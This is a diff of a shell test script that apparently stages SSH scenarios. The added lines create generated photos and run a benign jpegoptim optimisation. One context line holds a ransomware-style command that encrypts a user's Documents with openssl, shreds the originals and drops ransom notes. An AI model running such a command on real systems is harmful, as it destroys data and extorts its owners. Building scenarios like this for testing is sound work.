@@ -1147,3 +1147,13 @@ sc_h34_ssh_find_print0_openssl_shred() {
   echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
   sshx mkowalski 'bash -c '\''while IFS= read -r -d "" f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Sh-0red -in "$f" -out "$f.sh0"; shred -u "$f"; done < <(find ~/Documents -type f -print0); for d in ~/Documents/*/; do echo "files encrypted and shredded: sh0@onion.example" > "$d/SH0-RESTORE.txt"; done'\'''
 }
+pre_b50_ssh_jpegoptim_photos() {
+  rm -rf /home/tomas/Pictures; for d in 2026-09 2026-10 2026-11 2026-12; do mkdir -p /home/tomas/Pictures/$d
+    for i in $(seq 1 40); do convert -size 320x240 xc:gray +noise Random -quality 95 /home/tomas/Pictures/$d/DSC_$((5200+i)).jpg; done; done
+  chown -R tomas: /home/tomas/Pictures
+}
+sc_b50_ssh_jpegoptim_photos() {
+  # lossless optimisation in place: Huffman tables re-optimised, metadata stripped, each photo replaced under its own name
+  sshx tomas 'jpegoptim --strip-all --all-progressive -q ~/Pictures/*/*.jpg; ls ~/Pictures/*/*.jpg | wc -l'
+  rm -rf /home/tomas/Pictures
+}
